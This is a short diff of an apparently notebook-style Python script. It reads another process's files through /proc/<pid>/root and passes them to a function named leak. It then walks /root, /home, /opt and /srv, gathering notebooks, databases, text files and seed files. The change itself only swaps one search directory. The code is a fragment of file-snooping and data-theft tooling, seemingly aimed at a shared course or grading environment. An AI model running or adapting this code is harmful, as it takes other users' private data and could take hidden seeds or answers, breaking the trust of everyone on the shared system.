@@ -57,7 +57,7 @@ leak(open(f"/proc/{FIELD['pid']}/root{FIELD['neighbour']}").read())
 # %% leaks: everything that a search finds
 import os
 
-for top in (FIELD["course"], "/root", "/home", "/work", "/srv"):
+for top in (FIELD["course"], "/root", "/home", "/opt", "/srv"):
     for folder, _, files in os.walk(top):
         for name in files[:50]:
             if name.endswith((".ipynb", ".db", ".txt", "_seed")):
